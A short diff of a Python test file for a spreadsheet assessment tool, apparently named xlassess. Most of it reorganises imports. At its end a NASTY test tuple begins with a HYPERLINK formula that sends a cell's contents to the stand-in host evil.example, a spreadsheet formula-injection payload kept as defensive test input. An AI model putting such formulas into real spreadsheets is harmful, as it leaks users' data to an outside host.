@@ -13,10 +13,10 @@ import pytest
 from click.testing import CliRunner, Result
 
 from tests.desk.small import a_folder, answer
-from xlassess.cli import cli
+from xlassess.assessment.settings import AssessmentFolder
+from xlassess.cli.app import cli
 from xlassess.contract.layout import layout
-from xlassess.folder.assessment import AssessmentFolder
-from xlassess.folder.toolkits import find_toolkit
+from xlassess.toolkits.load import find_toolkit
 
 NASTY = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
